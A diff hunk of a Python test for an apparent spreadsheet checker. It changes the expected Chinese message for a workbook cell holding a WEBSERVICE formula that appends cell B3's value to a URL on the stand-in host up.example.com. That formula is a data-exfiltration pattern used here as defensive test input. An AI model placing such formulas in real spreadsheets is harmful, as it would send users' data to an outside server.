@@ -118,7 +118,7 @@ def test_a_workbook_with_links_is_told_where_they_lead_and_one_that_fetches_is_n
     assert told is not None
     for name, formula, said in (
         ("连着", '=HYPERLINK("http://up.example.com/?n="&B3)', "网页（up.example.com）"),
-        ("取数", '=WEBSERVICE("http://up.example.com/?n="&B3)', "没有放进来"),
+        ("取数", '=WEBSERVICE("http://up.example.com/?n="&B3)', "不收也不填"),
     ):
         book = county_book()
         book[SHEET]["E4"] = formula
